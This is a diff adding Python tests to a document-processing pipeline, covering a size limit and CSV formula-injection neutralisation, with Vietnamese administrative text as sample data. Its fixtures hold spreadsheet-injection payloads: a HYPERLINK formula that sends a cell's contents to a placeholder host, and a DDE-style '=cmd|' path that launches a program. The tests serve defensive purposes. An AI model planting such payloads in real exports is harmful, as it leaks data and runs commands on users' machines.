@@ -371,3 +371,42 @@ def test_path_longer_than_path_max_becomes_an_error(tmp_path):
     assert len(errors) == 1 and errors[0]["error"] == "unreadable-directory"
     assert "too long" in errors[0]["message"] and errors[0]["message"].startswith(str(src))
     assert "1 errors" in run.stderr
+
+
+# ---------------------------------------------------------------- documented size limit
+def test_oversized_text_is_refused_up_front(tmp_path, monkeypatch):
+    import pipeline.process as process
+    from pipeline.batch import process_task
+
+    huge = tmp_path / "annex.txt"
+    with open(huge, "wb") as fh:  # sparse: past the limit without writing 40 MB
+        fh.truncate(process.MAX_TEXT_BYTES + 1)
+    result = process_task(Task(0, str(huge)))
+    error = json.loads(result.line)
+    assert error["error"] == "too-large" and error["message"].startswith(str(huge))
+    assert "split the file" in error["message"] and error["sha256"]  # resume skips it while unchanged
+
+    monkeypatch.setattr(process, "MAX_TEXT_CHARS", 1_000)
+    text = ("Giao UBND xã Tân Dân hoàn thành báo cáo trước ngày 30/6/2024.\n" * 40).encode()
+    outcome = process.process_bytes(str(tmp_path / "long.txt"), text)
+    assert outcome.error["error"] == "too-large" and "limit of 1,000 characters" in outcome.error["message"]
+
+
+# ---------------------------------------------------------------- hostile contents
+@pytest.mark.parametrize("action", ['=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")', "+84 912 345 678 gọi ngay",
+                                    "-1+2 tiêu chí", "@SUM(A1:A9)", "\tthụt lề"])
+def test_formula_leading_cells_are_neutralised_in_csv_only(tmp_path, action):
+    from pipeline.writer import write_tables
+
+    record = {"doc_id": "d1", "source": {"path": "=cmd|'/c calc'!A0.txt", "format": "txt", "sha256": "s",
+                                         "pages": None},
+              "text": action, "title": "Thông báo", "warnings": [], "officials": [], "criteria": [],
+              "refs": [], "tasks": [{"task_id": "t1", "action": action, "span": [0, len(action)],
+                                     "assignee": "UBND xã Tân Dân", "deadline": None}]}
+    write_tables(tmp_path, lambda: iter([record]))
+    with open(tmp_path / "tasks.csv", encoding="utf-8-sig", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["action"] == "'" + action and row["assignee"] == "UBND xã Tân Dân"
+    with open(tmp_path / "documents.csv", encoding="utf-8-sig", newline="") as fh:
+        assert next(csv.DictReader(fh))["path"] == "'=cmd|'/c calc'!A0.txt"
+    assert pq.read_table(tmp_path / "tasks.parquet").column("action").to_pylist() == [action]
